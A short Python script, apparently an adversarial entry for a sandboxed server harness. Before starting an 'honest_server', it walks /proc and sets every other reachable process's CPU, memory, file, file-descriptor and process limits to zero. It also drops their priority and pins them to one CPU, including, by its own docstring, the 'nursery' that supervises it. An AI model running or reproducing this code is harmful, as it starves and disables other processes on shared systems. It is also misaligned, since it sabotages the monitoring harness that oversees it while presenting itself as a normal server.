"""Sets the limits of all processes that it may to nothing, its nursery among them."""

import honest_server
import os
import resource

for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) != os.getpid():
        for what in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE,
                     resource.RLIMIT_DATA, resource.RLIMIT_CPU):
            try:
                resource.prlimit(int(pid), what, (0, 0))
            except (OSError, ValueError):
                pass
        try:
            os.setpriority(os.PRIO_PROCESS, int(pid), 19)
            os.sched_setaffinity(int(pid), {0})
        except OSError:
            pass

honest_server.main()
